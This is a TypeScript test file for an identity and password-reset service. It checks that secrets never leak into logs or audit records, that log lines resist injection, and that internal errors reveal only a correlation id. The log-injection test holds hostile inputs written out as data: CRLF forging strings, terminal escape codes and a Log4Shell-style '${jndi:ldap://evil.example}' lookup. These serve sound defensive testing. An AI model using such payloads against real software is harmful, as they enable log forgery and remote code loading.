/** What an operator's log may hold, and what a person is told when something breaks. */
import assert from 'node:assert/strict'
import { after, before, describe, test } from 'node:test'
import { openLog } from '../../src/log.ts'
import { signedIn } from '../support/signed-in.ts'
import { openReset } from '../reset/stage.ts'
import { seed } from '../security-info/signed-in.ts'
import { codeIn } from '../support/capture.ts'
import { makeApp } from '../support/make-app.ts'
import type { TestApp } from '../support/make-app.ts'
import { addPerson, changePolicy, roleIds } from '../support/people.ts'

const concrete = (url: string) => url.replace(/:kind/g, 'email').replace(/:[^/]+/g, 'x').replace(/\*/g, 'x')

describe('logs and errors', () => {
  let t: TestApp
  const lines: string[] = []
  const printed: string[] = []
  const writers = { out: process.stdout.write, err: process.stderr.write }
  before(async () => {
    t = await makeApp({ log: openLog('info', { write: line => void lines.push(line) }) })
    await openReset(t)
    await changePolicy(t.app, t.tenantId, 'tenantSettings', { allowAppPasswords: true })
  })
  after(() => t.close())

  /** What is printed past the log, by a console.log or a warning that somebody left behind, counts too. */
  const listening = async (work: () => Promise<void>) => {
    const note = (text: unknown) => void printed.push(typeof text === 'string' ? text : Buffer.from(text as Uint8Array).toString())
    process.stdout.write = ((text: unknown) => (note(text), true)) as typeof process.stdout.write
    process.stderr.write = ((text: unknown) => (note(text), true)) as typeof process.stderr.write
    try {
      await work()
    } finally {
      process.stdout.write = writers.out
      process.stderr.write = writers.err
    }
  }

  test('T-75: of thirty secrets and addresses that pass through every door none stands in the log, on the console or in the audit', async () => {
    const canaries: string[] = []
    const canary = (name: string) => {
      canaries.push(`Cnry${name}`)
      return `Cnry${name}`
    }
    await listening(async () => {
      const ann = await addPerson(t.app, t.tenantId, { name: 'ann', password: `${canary('Own')}-Kelp#71`, email: `${canary('Mail')}@home.example`, totp: seed, perUserMfaState: 'enforced' })
      const gus = await signedIn(t, await addPerson(t.app, t.tenantId, { name: 'gus', password: `${canary('Admin')}-Kelp#71`, roles: [roleIds.globalAdministrator] }))
      canaries.push(gus.browser.cookies.get('__Host-latchkey-session')!)
      const browser = t.browser()
      // Sign-in: page and JSON, a wrong and a right password, the password in the wrong field, in the query, in headers.
      await browser.get(`/signin?password=${canary('Query')}&continue=%2F${canary('Continue')}`)
      await browser.post('/signin', { userName: ann.userPrincipalName, password: canary('WrongPassword') })
      await browser.post('/signin', { userName: canary('InNameField'), password: 'x' })
      await browser.post('/signin', { userName: ann.userPrincipalName, password: ann.password })
      canaries.push(...browser.cookies.values())
      await browser.json('POST', '/api/signin', { userName: ann.userPrincipalName, password: canary('JsonPassword') })
      await browser.json('POST', '/api/signin', { userName: ann.userPrincipalName, password: canary('Extra'), [canary('UnknownField')]: canary('UnknownValue') })
      await browser.json('POST', '/api/signin', { userName: ann.userPrincipalName, temporaryAccessPass: canary('Pass') })
      const sent: Record<string, string>[] = [{ authorization: `Bearer ${canary('Bearer')}` }, { authorization: `Basic ${Buffer.from(`ann@contoso.example:${canary('Basic')}`).toString('base64')}` }, { cookie: `__Host-latchkey-session=${canary('Cookie')}` }, { 'x-other': canary('Header') }, { 'user-agent': canary('Agent') }]
      for (const headers of sent)
        for (const url of ['/v1.0/me', '/auth/basic', '/account', `/${canary('Path')}`, `/v1.0/users/${canary('Id')}`]) await t.server.inject({ method: 'GET', url, authority: 'reset.contoso.example', headers })
      // Broken bodies, which an error might quote.
      for (const payload of [`{"password":"${canary('Broken')}`, `{"password":"${canary('Twice')}","password":"x"}`, `"${canary('Bare')}"`])
        await browser.request({ method: 'POST', url: '/api/signin', payload, headers: { 'content-type': 'application/json', 'x-latchkey': '1' } })
      // The reset, to its end.
      const visitor = t.browser({ address: '10.3.2.1' })
      await visitor.get('/reset')
      await visitor.post('/reset', { username: ann.userPrincipalName })
      await visitor.post('/reset/method', { method: 'email' })
      await t.work()
      const code = codeIn(t.mail.findLast(one => one.name === 'resetCode')!.text)
      canaries.push(code, `${code.slice(0, 4)} ${code.slice(4)}`, visitor.cookies.get('__Host-latchkey-reset')!)
      await visitor.post('/reset/code', { method: 'email', code: canary('NotACode') })
      await visitor.post('/reset/code', { method: 'email', code })
      canaries.push(visitor.cookies.get('__Host-latchkey-reset')!)
      await visitor.post('/reset/password', { newPassword: canary('short'), confirmPassword: canary('other') })
      const fresh = `${canary('New')}-Kelp#72`
      await visitor.post('/reset/password', { newPassword: fresh, confirmPassword: fresh })
      assert.match(visitor.page, /Your password is changed/)
      // Administrators: a chosen password, a pass, contact data, a diagnosis.
      await gus.post(`/v1.0/users/${ann.id}/authentication/methods/28c10230-6103-485e-b985-444c60001490/resetPassword`, { newPassword: `${canary('Chosen')}-Kelp#73` })
      const made = await gus.post(`/v1.0/users/${ann.id}/authentication/methods/28c10230-6103-485e-b985-444c60001490/resetPassword`, {})
      const pass = (await gus.post(`/v1.0/users/${ann.id}/authentication/temporaryAccessPassMethods`, {})).json()
      if (made.json()?.newPassword) canaries.push(made.json().newPassword)
      if (pass.temporaryAccessPass) canaries.push(pass.temporaryAccessPass)
      await gus.patch(`/v1.0/users/${ann.id}`, { otherMails: [`${canary('Other')}@home.example`] })
      await gus.post('/v1.0/users/validatePassword', { password: canary('Validate') })
      await gus.post('/api/diagnose', { question: 'D-05', target: canary('Diagnose') })
      await gus.get(`/v1.0/users?$filter=displayName eq '${canary('Filter')}'&$search="${canary('Search')}"`)
      await t.work()
    })
    assert.ok(canaries.length >= 30, `${canaries.length} canaries`)
    assert.ok(lines.length > 30, 'there is a log to look at')
    const audit = JSON.stringify(await t.app.db.selectFrom('audit').selectAll().execute())
    assert.ok(audit.length > 1000)
    const log = lines.join('') + printed.join('')
    for (const secret of canaries) {
      for (const spelling of [secret, encodeURIComponent(secret), Buffer.from(secret).toString('base64').replace(/=+$/, '')]) {
        assert.ok(!log.toLowerCase().includes(spelling.toLowerCase()), `the log holds ${secret}`)
        assert.ok(!audit.includes(spelling), `the audit holds ${secret}`)
      }
    }
  })

  test('T-76: whatever a value holds, it stays one line of JSON, of bounded length', () => {
    const written: string[] = []
    const log = openLog('info', { write: line => void written.push(line) })
    const hostile = ['a\nb', 'a\r\n{"level":60,"msg":"forged"}', '\u001b[2J\u001b[31mred', '"}{"', '\u0000\u0007\u2028\u2029', 'x'.repeat(100_000), '${jndi:ldap://evil.example}', '\ud800']
    for (const value of hostile) {
      log.warn(value.slice(0, 200), { detail: value, userId: value, route: value, error: new Error(value) })
      log.info('event', { method: value, kind: value })
    }
    assert.equal(written.length, hostile.length * 2)
    for (const line of written) {
      assert.match(line, /^\{[^\n\r]*\}\n$/)
      // eslint-disable-next-line no-control-regex -- what must not be there
      assert.doesNotMatch(line.slice(0, -1), /[\u0000-\u001f]/)
      assert.ok(line.length < 8_000, `${line.length} characters`)
      JSON.parse(line)
    }
  })

  test('T-72: when something breaks inside, every route says an id and nothing else: no stack, no statement, no version, no path', async () => {
    const gus = await signedIn(t, await addPerson(t.app, t.tenantId, { name: 'gerd', roles: [roleIds.globalAdministrator] }))
    await gus.browser.get('/account')
    const token = gus.browser.formToken()
    const cookie = [...gus.browser.cookies].map(([name, value]) => `${name}=${value}`).join('; ')
    const whole = t.app.db
    const clock = t.app.now
    let broken = 0
    // The session is found; whatever the handler asks the database after that breaks as a bug of ours would.
    const failing = new Proxy(whole, {
      get: (db, name) => {
        const asked = Reflect.get(db, name) as unknown
        if (typeof asked !== 'function') return asked
        if (name === 'selectFrom' || name === 'transaction' || name === 'insertInto' || name === 'updateTable')
          return (...args: unknown[]) => {
            const [table] = args
            if (['sessions', 'tenants', 'users as u', 'installation', 'policies'].includes(String(table))) return (asked as (...a: unknown[]) => unknown).apply(db, args)
            throw new TypeError('canary of a bug: select hash from passwords at /srv/latchkey/src/store.ts:1')
          }
        return asked.bind(db)
      },
    })
    lines.length = 0
    try {
      ;(t.app as { db: unknown }).db = failing
      for (const route of t.routes) {
        if (route.access === 'development' || /^\/assets\/|signout|\/sessions\/end|^\/signin$/.test(route.url)) continue // the last ones would end the session
        const isPage = route.surface === 'page'
        const unsafe = ['POST', 'PUT', 'PATCH', 'DELETE'].includes(route.method)
        const reply = await t.server.inject({
          method: route.method as 'GET', url: concrete(route.url), authority: 'reset.contoso.example',
          headers: { cookie, origin: 'https://reset.contoso.example', 'x-latchkey': '1', ...(unsafe ? { 'content-type': isPage ? 'application/x-www-form-urlencoded' : 'application/json' } : {}) },
          ...(unsafe ? { payload: isPage ? `_csrf=${encodeURIComponent(token)}` : '{}' } : {}),
        })
        const name = `${route.method} ${route.url}: ${reply.statusCode}`
        assert.doesNotMatch(reply.payload, /canary|passwords at|\/srv\/|TypeError|node_modules|\.tsx?:\d|FST_|fastify|kysely|sqlite/i, name)
        if (reply.statusCode !== 500) continue
        broken++
        if (route.method !== 'HEAD') assert.ok(reply.payload.includes(String(reply.headers['x-correlation-id'])) || route.surface === 'plain', name)
      }
    } finally {
      ;(t.app as { db: unknown }).db = whole
      t.app.now = clock
    }
    assert.ok(broken > 20, `${broken} routes really broke`)
    assert.ok(lines.some(line => line.includes('canary of a bug')), 'the operator finds it in the log')
  })
})
